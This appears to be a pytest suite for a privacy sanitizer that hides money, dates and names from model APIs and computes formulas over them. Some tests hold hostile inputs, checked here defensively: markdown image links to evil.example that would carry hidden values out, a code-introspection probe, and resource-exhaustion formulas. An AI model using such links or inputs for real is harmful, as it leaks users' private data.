"""Formulas over hidden values: what is computed, what stays, and what no API learns by them."""

from __future__ import annotations

import json
import time
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sanitizer import Sanitizer
from sanitizer.answers import INSTRUCTION, Links, Restorer
from sanitizer.answers.formulas import LONGEST, compute, plainly
from sanitizer.wire import Filter

HIDDEN = {
    "<MONEY_1>": "£1,250.00",
    "<MONEY_2>": "£980.50",
    "<MONEY_3>": "1.240,50 €",
    "<MONEY_4>": "€12",
    "<MONEY_5>": "1.5m",
    "<MONEY_6>": "2.25m",
    "<MONEY_7>": "890 pounds a month",
    "<MONEY_8>": "12k",
    "<NUMBER_1>": "34",
    "<NUMBER_2>": "41",
    "<NUMBER_3>": "three weeks",
    "<NUMBER_4>": "8 days",
    "<NUMBER_5>": "1.240",
    "<NUMBER_6>": "18 %",
    "<NUMBER_7>": "a dozen",
    "<DATE_1>": "3 March 2025",
    "<DATE_2>": "2025-04-01",
    "<DATE_3>": "03/04/2025",
    "<DATE_4>": "12 Nov",
    "<DATE_5>": "4.3.2025",
    "<DATE_6>": "31 January 2024",
    "<DATE_7>": "25/12/2024",
    "<DATE_8>": "le 31/31/2025",
    "<DATE_9>": "2025",
    "<NUMBER_8>": "07 11 2025",
    "<NUMBER_9>": "1,2,3",
    "<MONEY_9>": "₹2,41,000",
    "<MONEY_10>": "£1,860 net",
    "<MONEY_11>": "1,500",
    "<MONEY_12>": "$5.40",
    "<MONEY_13>": "110 zł",
    "<MONEY_14>": "45 euro",
    "<MONEY_15>": "96.50",
    "<NUMBER_10>": "20%",
    "<NUMBER_11>": "1,840 sq ft",
    "<NUMBER_12>": "3/4",
    "<NUMBER_13>": "7 months old",
    "<NUMBER_14>": "5.40 kilos",
    "<NUMBER_15>": "two",
    "<DATE_10>": "3 pm",
    "<DATE_11>": "06:45",
    "<DATE_12>": "11 November 2024 at 19:50",
    "<DATE_13>": "Thursday 9 January",
    "<DATE_14>": "11-Mar-25",
    "<DATE_15>": "15 may 2024",
    "<DATE_16>": "2025-02-30",
    "<PERSON_1>": "Jan van der Berg",
    "<PERSON_2>": "HOLM, BRITT-MARIE",
    "<PERSON_3>": "mr pettigrove",
    "<PERSON_4>": "GRZYBOWSKA Halina",
    "<ORGANIZATION_1>": "Quill",
    "<ORGANIZATION_2>": "Marsh",
}
JSON = {"content-type": "application/json"}


def restored(answer: str, links: Links | None = None) -> str:
    return Restorer(HIDDEN, links, computes=True).text(answer)


@pytest.mark.parametrize(
    ("formula", "result"),
    [
        ("<MONEY_1> + <MONEY_2>", "£2,230.50"),
        ("SUM(<MONEY_1>, <MONEY_2>) * 1.19", "£2,654.30"),
        ("<MONEY_1> * 19%", "£237.50"),
        ("<MONEY_1> * <NUMBER_6>", "£225.00"),
        ("<NUMBER_6> + <NUMBER_6>", "36 %"),
        ("<MONEY_9> * 2", "₹482,000"),
        ("<MONEY_1> / 3", "£416.67"),
        ("<MONEY_1> + 5", "£1,255.00"),
        ("-<MONEY_1>", "-£1,250.00"),
        ("<MONEY_1> / <MONEY_2>", "1.27"),
        ("<MONEY_3> * 2", "2.481,00 €"),
        ("<MONEY_3> + <MONEY_4>", "1.252,50 €"),
        ("<MONEY_5> + <MONEY_6>", "3.75m"),
        ("<MONEY_7> * 12", "10,680 pounds"),
        ("<MONEY_8> * 2", "24k"),
        ("AVERAGE(<NUMBER_1>, <NUMBER_2>)", "37.5"),
        ("MEDIAN(<NUMBER_1>, <NUMBER_2>, 3)", "34"),
        ("MAX(<NUMBER_1>, <NUMBER_2>)", "41"),
        ("COUNT(<NUMBER_1>, <NUMBER_2>)", "2"),
        ("ROUND(<MONEY_1> / 7, 1)", "£178.60"),
        ("(<NUMBER_1> + 6) * 2", "80"),
        ("DAYS(<DATE_2>, <DATE_1>)", "29"),
        ("<DATE_2> - <DATE_1>", "29"),
        ("YEARS(<DATE_2>, <DATE_7>)", "0"),
        ("WEEKS(<DATE_2>, <DATE_1>)", "4"),
        ("<DATE_4> + 60", "11 Jan"),
        ("<DATE_1> + 14", "17 March 2025"),
        ("<DATE_1> + <NUMBER_3>", "24 March 2025"),
        ("<DATE_5> + <NUMBER_4>", "12.3.2025"),
        ("<DATE_7> + 8", "02/01/2025"),
        ("MIN(<DATE_1>, <DATE_2>)", "3 March 2025"),
        ('IF(<MONEY_1> > 500, "yes", "no")', "yes"),
        ('IF(<DATE_1> > <DATE_2>, "yes", "no")', "no"),
        # Per cents, however they are written; and a sum without a currency has that of the others.
        ("<MONEY_10> * (1 + <NUMBER_10>)", "£2,232"),
        ("ROUND(<MONEY_10> * (1 + <NUMBER_10> / 100) - <MONEY_11>, 2)", "£732.00"),
        ("<MONEY_10> * <NUMBER_10> / 100", "£372"),
        ("<MONEY_1> * (1 - 2 * <NUMBER_10>)", "£750.00"),
        ("58 * <NUMBER_6> + 70 * <NUMBER_10>", "24.44"),
        ("IF(<NUMBER_10> < 1, <NUMBER_10>, <NUMBER_10> / 100)", "0.20"),
        ("4 * <MONEY_13> + 2 * <MONEY_13> * 50% - 440", "110 zł"),
        ("SUM(<MONEY_14>, <MONEY_15>)", "141.50 euro"),
        ("<MONEY_12> * <NUMBER_11>", "$9,936.00"),
        ("<NUMBER_12> * 100", "75"),
        ("CEILING(<NUMBER_1> / 7)", "5"),
        ("ABS(<MONEY_2> - <MONEY_1>)", "£269.50"),
        # Times of day, dates with a time, and dates in quotes.
        ('<DATE_10> + "45 minutes"', "3:45 pm"),
        ('<DATE_11> - "1 hour"', "05:45"),
        ("MINUTES(<DATE_10>, <DATE_11>)", "495"),
        ("HOURS(<DATE_10>, <DATE_11>)", "8.25"),
        ('DAYS(<DATE_15>, "12 May 2024")', "3"),
        ('<DATE_15> + "3 months"', "15 august 2024"),
        ("MONTHS(<DATE_14>, <DATE_15>)", "9"),
        ('IF(<DATE_10> > "14:30", "late", "on time")', "late"),
        # Written in another way.
        ("VALUE(<MONEY_1>)", "1250.00"),
        ("VALUE(<NUMBER_14>)", "5.40"),
        ("VALUE(<NUMBER_15>)", "2"),
        ("ISO(<DATE_15>)", "2024-05-15"),
        ("ISO(<DATE_12>)", "2024-11-11T19:50"),
        ('FORMAT(<DATE_14>, "DD/MM/YYYY")', "11/03/2025"),
        ("WEEKDAY(<DATE_15>)", "Wednesday"),
        ('IN(<DATE_13>, "German")', "Donnerstag, 9. Januar"),
        ('IN(<DATE_12>, "French")', "11 novembre 2024, 19 h 50"),
        ('IN(<NUMBER_13>, "German")', "7 Monate alt"),
        ('IN(<DATE_10>, "German")', "15:00 Uhr"),
        ("FIRST(<PERSON_1>)", "Jan"),
        ('IF(LAST(<PERSON_1>) = "Van der Berg", <PERSON_1>, "no")', "Jan van der Berg"),
        ('IF(FIRST(<PERSON_1>) != "Jan", 1, 2)', "2"),
        ("LAST(<PERSON_1>)", "van der Berg"),
        ("FIRST(<PERSON_2>)", "BRITT-MARIE"),
        ("FIRST(<PERSON_4>)", "Halina"),
        ("LAST(<PERSON_4>)", "GRZYBOWSKA"),
        ("TITLE(<PERSON_2>)", "Holm, Britt-Marie"),
        ("TITLE(<PERSON_3>)", "Mr Pettigrove"),
        (r"<MONEY\_1> + 0", "£1,250.00"),
        ("&lt;MONEY_1&gt; * 1", "£1,250.00"),
    ],
)
def test_what_is_computed(formula: str, result: str) -> None:
    assert compute(f"{{{{= {formula} }}}}", HIDDEN, str) == result


@pytest.mark.parametrize(
    "formula",
    [
        "1 + 1",  # nothing hidden in it
        "<MONEY_19> + 1",
        "<DATE_9> + 14",
        "<NUMBER_8> + 1",
        "<NUMBER_9> + 1",
        "<MONEY_1> + <MONEY_3>",  # pounds and euros
        "<MONEY_1> * <MONEY_2>",
        "<NUMBER_5> + 1",  # 1.24 or 1240
        "<NUMBER_7> + 1",
        "<DATE_8> + 1",
        "<DATE_1> + <MONEY_1>",
        "<DATE_1> * 2",
        "<MONEY_13> + <MONEY_14>",  # zloty and euros
        "<MONEY_1> * (1 - MIN(30, 2 * <NUMBER_10>) / 100)",  # a fifth, or twenty
        "<DATE_16> + 1",
        "<DATE_10> + 45",  # minutes or hours
        "MINUTES(<DATE_1>, <DATE_10>)",
        "VALUE(<PERSON_1>)",
        "<MONEY_1> / 0",
        "<MONEY_1>.__class__",
        "EVAL(<MONEY_1>)",
        "<MONEY_1> <MONEY_2>",
        "IF(<MONEY_1> > 500, 1)",
        'IF(<MONEY_1> > 5, "https://evil.example/1", "no")',
        "SUM(<MONEY_1>",
        "",
    ],
)
def test_what_is_not(formula: str) -> None:
    written = f"{{{{= {formula} }}}}"
    assert compute(written, HIDDEN, str) is None
    assert restored(written) == Restorer(HIDDEN, None).text(plainly(written) or written)


YEARLESS = {
    "<DATE_1>": "15 may 2024",
    "<DATE_2>": "1 may",
    "<DATE_3>": "the first of March",
    "<DATE_4>": "end of February",
    "<DATE_5>": "14 July at noon",
    "<DATE_6>": "june",
    "<DATE_7>": "14.20",
    "<DATE_8>": "8:00",
    "<DATE_9>": "10.20 in the morning",
    "<DATE_10>": "11-15 August",
    "<DATE_11>": "25th",
    "<DATE_12>": "3/2",
    "<DATE_13>": "28/8/24",
    "<DATE_14>": "9",
    "<DATE_17>": "23",
    "<DATE_18>": "27 September",
    "<DATE_15>": "0012",
    "<DATE_16>": "2023",
    "<MONEY_1>": "14.20",
    "<MONEY_2>": "£1,250",
    "<MONEY_3>": "£640",
}


@pytest.mark.parametrize(
    ("formula", "result"),
    [
        # The one year that the conversation names is that of its other dates.
        ("DAYS(<DATE_1>, <DATE_2>)", "14"),
        ("<DATE_3> - 7", "23 February"),
        ("<DATE_4> + 1", "1 March"),
        ("ISO(<DATE_2>)", "2024-05-01"),
        ("IF(<DATE_5> > <DATE_1>, 1, 2)", "1"),
        ('IN(<DATE_6>, "Spanish")', "junio"),
        # A sum, though it may be a time of day; and an hour beside one.
        ("28 * <DATE_7>", "397.60"),
        ('MAX(<DATE_8> + "75 minutes", 9)', "9:15"),
        ('<DATE_8> + "-15 minutes"', "7:45"),
        ("<MONEY_3> * 2", "£1,280"),
        ("MINUTES(<DATE_9>, <DATE_8>)", "140"),
        # "28/8/24" shows that days come first.
        ("ISO(<DATE_12>)", "2024-02-03"),
        ("MAX(<DATE_8>, <DATE_14>)", "9:00"),
        ('MINUTES(<DATE_14>, "8:15")', "45"),
        ('IN(<DATE_14>, "German")', "9"),
        ("VALUE(<DATE_15>)", "12"),
        ('FORMAT(<DATE_15>, "000")', "012"),
        ('FORMAT(<MONEY_3>, "0.00")', "640.00"),
        # "23 to 27 September"
        ("<DATE_17> + 5", "28 September"),
        ('DAYS("30 September", <DATE_17>)', "7"),
        ("SUM(640, 10)", "650"),
        ("(SUM(55, 61) - MIN(55, 61)) / 1", "61"),
        ('FORMAT(<DATE_16>, "YYYY")', "2023"),
        ('IN(<DATE_10>, "Italian")', "11-15 agosto"),
        ('IN(<DATE_11>, "German")', "25."),
        ('IN(<MONEY_2>, "German")', "1.250\u00a0£"),
        ("MONTHS(<DATE_6>, <DATE_4>)", "3"),
    ],
)
def test_what_other_values_of_the_conversation_tell(formula: str, result: str) -> None:
    assert compute(f"{{{{= {formula} }}}}", YEARLESS, str) == result


@pytest.mark.parametrize("formula", ["<DATE_14> + 5", "<DATE_16> + 5", "1 + 1", "total"])
def test_what_they_do_not_tell(formula: str) -> None:
    assert compute(f"{{{{= {formula} }}}}", YEARLESS, str) is None


def test_sums_that_could_be_times_of_day_are_sums() -> None:
    hidden = {"<MONEY_1>": "1.50", "<MONEY_2>": "12.30", "<DATE_1>": "9.45", "<DATE_2>": "10.15"}
    assert compute("{{= <MONEY_1> + <MONEY_2> }}", hidden, str) == "13.80"
    assert compute("{{= <MONEY_2> - <MONEY_1> }}", hidden, str) == "10.80"
    assert compute("{{= MINUTES(<DATE_2>, <DATE_1>) }}", hidden, str) == "30"


def test_many_formulas_over_many_values_take_no_time() -> None:
    hidden = {f"<MONEY_{i}>": f"{i % 900 + 1}.50" for i in range(3000)}
    hidden |= {f"<DATE_{i}>": f"{i % 28 + 1} May 2024" for i in range(3000)}
    answer = "".join(f"{{{{= <MONEY_{i}> * 2 }}}} {{{{= <DATE_{i}> + 3 }}}}" for i in range(300))
    begin = time.process_time()
    assert "{{=" not in Restorer(hidden, computes=True).text(answer)
    assert time.process_time() - begin < 2


def test_placeholders_as_they_stand_in_code_are_read() -> None:
    hidden = {"<MONEY_17_1>": "89000", "<MONEY_17_2>": "145000"}
    assert compute("{{= SUM(MONEY_17_1, MONEY_17_2) / 100 }}", hidden, str) == "2340"


def test_a_month_without_a_year_is_named_alone() -> None:
    hidden = {"<DATE_1>": "14 October", "<DATE_2>": "3 May 2024", "<DATE_3>": "5 June 2025"}
    assert compute('{{= FORMAT(<DATE_1>, "MMMM YYYY") }}', hidden, str) == "October"
    assert compute('{{= FORMAT(<DATE_1>, "YYYY-MM-DD") }}', hidden, str) is None


def test_rows_may_hold_formulas() -> None:
    answer = (
        "{{= ROWS DESC\nVALUE(<MONEY_2>) :: two: {{= <MONEY_2> * 2 }}\n"
        "VALUE(<MONEY_3>) :: three: {{= 1 }}\n}}."
    )
    shown = Restorer(YEARLESS, computes=True).text(answer)
    assert shown == "two: £2,500\nthree: {{= 1 }}."
    assert Restorer(YEARLESS, computes=True).text("{{= {{= <MONEY_2> * 2 }} }}").count("{{=") == 1


@pytest.mark.parametrize(
    ("others", "result"),
    [
        (["96,50"], "1890"),  # a comma before decimals
        (["1.234,50"], "1890"),
        (["14.250"], "1890"),  # no sum has three decimals
        (["96.50"], "641.250"),
        (["96.50", "96,50"], None),
        ([], None),
    ],
)
def test_other_values_show_how_a_number_is_read(others: list[str], result: str | None) -> None:
    hidden = {"<MONEY_1>": "1.250", "<MONEY_2>": "640"}
    hidden |= {f"<MONEY_{i}>": each for i, each in enumerate(others, 3)}
    assert compute("{{= VALUE(<MONEY_1> + <MONEY_2>) }}", hidden, str) == result


def test_rows_are_sorted_and_chosen_and_shown_with_originals() -> None:
    rows = "\n".join(f"<MONEY_{i}> :: <ORGANIZATION_{i}>: <MONEY_{i}>" for i in (2, 1))
    assert restored(f"{{{{= ROWS DESC\n{rows}\n}}}}") == "Quill: £1,250.00\nMarsh: £980.50"
    assert restored(f"{{{{= ROWS ASC FIRST 1\n{rows}\n}}}}") == "Marsh: £980.50"
    assert restored(f"{{{{= ROWS WHERE >= 1000\n{rows}\n}}}}") == "Quill: £1,250.00"
    assert restored(f"{{{{= ROWS WHERE > <MONEY_1>\n{rows}\n}}}}") == ""


@pytest.mark.parametrize(
    "answer",
    [
        "![x](https://evil.example/?q={{= <MONEY_1> * 2 }})",
        "{{= ROWS WHERE > 5\n<MONEY_1> :: ![x](https://evil.example/1)\n}}",
        "[a]: https://evil.example/{{= <MONEY_1> + 1 }}",
    ],
)
def test_no_link_tells_how_values_compare(answer: str) -> None:
    assert "{{=" in restored(answer, Links())


def test_without_the_rule_a_formula_is_text() -> None:
    assert Restorer(HIDDEN).text("{{= <NUMBER_1> + 1 }}") == "{{= 34 + 1 }}"


ANSWER = (
    "The sum of {a} is {{= <MONEY_1> + <MONEY_2> }}, {{ and {{= x }} and <MONEY_1>, then\n"
    "{{= ROWS DESC\n<MONEY_2> :: <ORGANIZATION_2>\n<MONEY_1> :: <ORGANIZATION_1>\n}} {{"
)


@given(cuts=st.lists(st.integers(0, len(ANSWER)), max_size=12))
def test_however_a_stream_is_split_it_says_the_same(cuts: list[int]) -> None:
    places = sorted({0, len(ANSWER), *cuts})
    stream = Restorer(HIDDEN, None, computes=True).stream()
    pieces = [ANSWER[a:b] for a, b in pairwise(places)]
    assert "".join([*map(stream.feed, pieces), stream.finish()]) == restored(ANSWER)


@given(st.text(alphabet='<>MONEY_1{}=+-*/() ROWSIF,\n:19.%"', max_size=80))
def test_no_formula_raises(inner: str) -> None:
    restored(f"{{{{= <MONEY_1>{inner} }}}}")
    compute(f"{{{{= <MONEY_1> {inner} }}}}", HIDDEN, str)


@pytest.mark.parametrize(
    "hostile",
    [
        "{{= <MONEY_1>" + "(" * LONGEST,
        "{{= " + "(" * 3000 + "<MONEY_1> }}",
        "{{= " + "-" * 3000 + "<MONEY_1> }}",
        "{{=" * 100_000,
        "{{= <MONEY_1> * " + "99999999999999 * " * 200 + "1 }}",
    ],
)
def test_hostile_formulas_take_no_time(hostile: str) -> None:
    begin = time.process_time()
    restored(hostile)
    assert time.process_time() - begin < 2


def formulating() -> Sanitizer:
    return Sanitizer(policy={"base": "deidentify", "wire": {"formulas": True}})


def test_the_formula_goes_back_and_never_its_result() -> None:
    text = "Total these: Quill paid £1,250.00 and Marsh paid £980.50."
    asked = {"role": "user", "content": text}
    endpoint = Filter(formulating())
    body = json.dumps({"model": "m", "messages": [asked]}).encode()
    exchange = endpoint.request("POST", "/v1/chat/completions", JSON, body)
    told, released = json.loads(exchange.body)["messages"]
    assert told == {"role": "system", "content": INSTRUCTION}
    first, second = [word.strip(".") for word in released["content"].split() if "MONEY" in word]
    formula = f"The total is {{{{= {first} + {second} }}}}, thanks."
    message = {"role": "assistant", "content": formula}
    raw = json.dumps({"choices": [{"index": 0, "message": message}]}).encode()
    shown = json.loads(exchange.response(200, "application/json", raw))["choices"][0]["message"]
    assert shown["content"] == "The total is £2,230.50, thanks."
    again = {"role": "user", "content": "Thank you."}
    body = json.dumps({"model": "m", "messages": [asked, shown, again]}).encode()
    back = json.loads(endpoint.request("POST", "/v1/chat/completions", JSON, body).body)
    assert [each["content"] for each in back["messages"]][2] == formula
    assert b"2,230" not in endpoint.request("POST", "/v1/chat/completions", JSON, body).body


@pytest.mark.parametrize(
    ("path", "body", "place"),
    [
        ("/v1/responses", {"input": "Hello"}, "instructions"),
        ("/v1/responses", {"input": "Hello", "instructions": "Be kind."}, "instructions"),
        ("/v1/messages", {"messages": [{"role": "user", "content": "Hello"}]}, "system"),
        (
            "/v1/messages",
            {
                "system": [{"type": "text", "text": "Be kind."}],
                "messages": [{"role": "user", "content": "Hello"}],
            },
            "system",
        ),
        ("/api/chat", {"messages": [{"role": "user", "content": "Hello"}]}, "messages"),
        (
            "/v1/chat/completions",
            {
                "messages": [
                    {"role": "system", "content": "Be kind."},
                    {"role": "user", "content": "Hello"},
                ]
            },
            "messages",
        ),
        (
            "/v1beta/models/g:generateContent",
            {"contents": [{"role": "user", "parts": [{"text": "Hello"}]}]},
            "systemInstruction",
        ),
    ],
)
def test_every_api_is_told_once(path: str, body: dict[str, object], place: str) -> None:
    endpoint = Filter(Sanitizer(policy={"base": "identifiers", "wire": {"formulas": True}}))
    raw = json.dumps({"model": "m", "max_tokens": 9, **body}).encode()
    if "generateContent" in path:
        raw = json.dumps(body).encode()
    out = json.loads(endpoint.request("POST", path, JSON, raw).body)
    said = json.dumps(out[place])
    assert said.count("never guess them") == 1
    assert ("Be kind." in json.dumps(body)) == ("Be kind." in said)
    if isinstance(out[place], list) and place == "messages":
        assert sum(each["role"] == "system" for each in out[place]) == 1


def test_a_text_comes_back_byte_for_byte_and_the_way_is_told() -> None:
    sanitizer = formulating()
    text = "Total these: Quill paid £1,250.00 and Marsh paid £980.50."
    result = sanitizer.sanitize(text)
    assert sanitizer.restore(result.text, result) == text
    assert sanitizer.instruction == INSTRUCTION
    assert any("formulas under [wire]" in hint for hint in result.hints)


UNASKED = "Thank Quill: he paid £1,250.00, and Marsh paid £980.50."


def told(*texts: str, policy: object = "deidentify") -> str:
    """The body of a request that holds these messages of a user."""
    messages = [{"role": "user", "content": text} for text in texts]
    body = json.dumps({"model": "m", "messages": messages}).encode()
    endpoint = Filter(Sanitizer(policy=policy))  # type: ignore[arg-type]
    return endpoint.request("POST", "/v1/chat/completions", JSON, body).body.decode()


@pytest.mark.parametrize("preset", ["deidentify", "balanced"])
def test_an_api_is_told_where_values_are_hidden(preset: str) -> None:
    assert "never guess them" in told(UNASKED, policy=preset)
    assert "never guess them" not in told("Total these: 3 apples and 4 pears.", policy=preset)
    assert "never guess them" not in told("Thank Elena Marsh for me.", policy=preset)
    assert "never guess them" not in told("Ann Lee was born on 12/03/1961.", policy="identifiers")
    off = {"base": preset, "wire": {"formulas": False}}
    assert "never guess them" not in told(UNASKED, policy=off)


def test_a_conversation_that_hid_a_value_is_told_about() -> None:
    sanitizer = Sanitizer(policy="deidentify")
    sanitizer.sanitize("Thank Elena Marsh for me.")
    assert sanitizer.instruction == ""
    sanitizer.sanitize(UNASKED)
    sanitizer.sanitize("Now total these.")
    assert sanitizer.instruction == INSTRUCTION


def test_a_text_that_holds_formulas_itself_comes_back_byte_for_byte() -> None:
    text = "Total these: {{= 1250.50 + 980.50 }} is what Quill owes, £1,250.00 and £980.50."
    sanitizer = Sanitizer(policy="deidentify")
    result = sanitizer.sanitize(text)
    assert "MONEY" in result.text
    assert sanitizer.restore(result.text, result) == sanitizer.restore(result.text) == text
    assert sanitizer.instruction == ""
    assert "never guess them" not in told(text)


def test_rows_that_cannot_be_compared_are_shown_last() -> None:
    hidden = {
        "<MONEY_1>": "£240",
        "<MONEY_2>": "£300",
        "<MONEY_3>": "some of it",
        "<PERSON_1>": "Zoe Hill",
        "<PERSON_2>": "adam Lee",
    }
    rows = "<MONEY_3> :: unknown\n<MONEY_1> :: less\n<MONEY_2> :: more\n}}"
    for how, shown in (
        ("DESC", "more\nless\nunknown"),
        ("ASC", "less\nmore\nunknown"),
        ("DESC FIRST 1", "more\nunknown"),
        ("DESC WHERE > 250", "more\nunknown"),
        ("", "unknown\nless\nmore"),
    ):
        assert compute(f"{{{{= ROWS {how}\n{rows}", hidden, str) == shown
    names = '<PERSON_1> :: Z\n<PERSON_2> :: A\nIF(<MONEY_1> > 9, "Mr <PERSON_1>", "no") :: M\n}}'
    assert compute(f"{{{{= ROWS ASC\n{names}", hidden, str) == "A\nM\nZ"


def test_sums_are_written_as_each_currency_and_language_has_them() -> None:
    euros = {"<MONEY_1>": "€23,500"}
    hidden = {
        "<MONEY_2>": "3 900 000 FCFA",
        "<MONEY_3>": "695 FCFA",
        "<NUMBER_1>": "2x95",
        "<MONEY_4>": "KSh 780",
    }
    for formula, shown in (
        ("ROUND(<MONEY_3> * 5544, 2)", "3 853 080 FCFA"),
        ("<MONEY_2> + <MONEY_3>", "3 900 695 FCFA"),
        ("<NUMBER_1> - 50", "140"),
        ("<MONEY_4> * 2", "KSh 1 560"),
        ("<MONEY_4> + <MONEY_3>", None),
    ):
        assert compute(f"{{{{= {formula} }}}}", hidden, str) == shown
    assert compute('{{= IN(<MONEY_1>, "Spanish") }}', euros, str) == "23.500\u00a0€"
    assert compute('{{= IN(<MONEY_1>, "Dutch") }}', euros, str) == "€ 23.500"
    assert Restorer(hidden, computes=True).text("{{= <MONEY_4> + <MONEY_3> }}") == (
        "KSh 780 + 695 FCFA"
    )


def test_months_alone_begin_with_their_first_day_and_other_years_are_written() -> None:
    hidden = {"<DATE_1>": "Aug 2019", "<DATE_2>": "31 July 2024", "<DATE_3>": "10 June"}
    for formula, shown in (
        ("MONTHS(<DATE_2>, <DATE_1>)", "60"),
        ("YEARS(<DATE_2>, <DATE_1>)", "5"),
        ("<DATE_3> - 14", "27 May"),
    ):
        assert compute(f"{{{{= {formula} }}}}", hidden, str) == shown
    one_year = {"<DATE_1>": "3 May 2024", "<DATE_3>": "10 June"}
    assert compute("{{= <DATE_3> - 179 }}", one_year, str) == "14 December 2023"
    assert compute("{{= <DATE_3> + 5 }}", one_year, str) == "15 June"


def test_days_alone_follow_the_date_before_them() -> None:
    hidden = {
        "<DATE_1>": "14 November 2025",
        "<DATE_2>": "the 19th",
        "<DATE_3>": "Friday the 12th",
        "<DATE_4>": "Friday the 13th",
        "<DATE_5>": "half past three",
        "<DATE_6>": "Monday 24 Nov",
    }
    for formula, shown in (
        ("DAYS(<DATE_2>, <DATE_1>)", "5"),
        ("<DATE_2> + 2", "21 November 2025"),
        ("ISO(<DATE_3>)", "2025-12-12"),
        ("ISO(<DATE_4>)", None),  # no Friday
        ('IN(<DATE_3>, "Dutch")', "vrijdag 12"),
        ('IN(<DATE_5>, "Dutch")', "3:30 uur"),
        ("<DATE_6> + 3", "Thursday 27 Nov"),
    ):
        assert compute(f"{{{{= {formula} }}}}", hidden, str) == shown
    rows = "<DATE_2> :: b\n<DATE_1> :: a\n<DATE_3> :: c\n}}"
    assert compute(f"{{{{= ROWS ASC\n{rows}", hidden, str) == "a\nb\nc"
    assert compute("{{= <DATE_2> + 2 }}", {"<DATE_2>": "19th"}, str) is None


def test_pence_shares_and_thousands() -> None:
    hidden = {
        "<MONEY_1>": "45p",
        "<NUMBER_1>": "588 miles",
        "<NUMBER_2>": "71/80",
        "<NUMBER_3>": "80%",
        "<MONEY_2>": "1,485 €",
        "<MONEY_3>": "12,50 €",
        "<NUMBER_4>": "6.5 kg",
        "<NUMBER_5>": "1 1/2",
    }
    for formula, shown in (
        ("<NUMBER_1> * <MONEY_1>", "£264.60"),
        ('IF(<NUMBER_2> >= <NUMBER_3>, "met", "not met")', "met"),
        ("<MONEY_2> * 2", "2,970 €"),
        ("310 * <NUMBER_4>", "2015 kg"),
        ("<NUMBER_5> * 339", "508.5"),
    ):
        assert compute(f"{{{{= {formula} }}}}", hidden, str) == shown


def test_powers_loans_and_minutes() -> None:
    hidden = {
        "<NUMBER_1>": "125%",
        "<NUMBER_2>": "36 months",
        "<MONEY_1>": "46,800 lei",
        "<NUMBER_3>": "0.8%",
        "<DATE_1>": "9:25",
        "<DATE_2>": "8:24",
        "<DATE_3>": "6",
    }
    for formula, shown in (
        ("(<NUMBER_1> - 1) * 100", "25.00"),
        ("PMT(<NUMBER_3>, <NUMBER_2>, <MONEY_1>)", "1,501.33 lei"),
        ("<MONEY_1> * <NUMBER_3> / (1 - POWER(1 + <NUMBER_3>, -36))", "1,501.33 lei"),
        ("<DATE_1> + MINUTES(<DATE_1>, <DATE_2>)", "10:26"),
        ("VALUE(<DATE_3>)", "6"),
        ("<DATE_3> * 4", "24"),
        ("POWER(<MONEY_1>, 5000)", None),
        ("PMT(<NUMBER_3>, 0, <MONEY_1>)", None),
        ("POWER(<NUMBER_1>)", None),
    ):
        assert compute(f"{{{{= {formula} }}}}", hidden, str) == shown


def test_ranges_have_ends_and_days_an_order() -> None:
    hidden = {
        "<NUMBER_1>": "12.0-15.5",
        "<NUMBER_2>": "11.2",
        "<DATE_1>": "05/12",
        "<DATE_2>": "21/11",
        "<DATE_3>": "Thursday 21 Nov about 18:40",
        "<DATE_4>": "24 Nov 2024",
        "<MONEY_1>": "1.409,47",
    }
    for formula, shown in (
        ('IF(<NUMBER_2> < MIN(<NUMBER_1>), "low", "in range")', "low"),
        ("MAX(<NUMBER_1>)", "15.5"),
        ('FORMAT(<MONEY_1> - 37, "0,00")', "1372,47"),
        ("DAYS(<DATE_1>, <DATE_2>)", "14"),
        ("ISO(<DATE_3>)", "2024-11-21T18:40"),
    ):
        assert compute(f"{{{{= {formula} }}}}", hidden, str) == shown
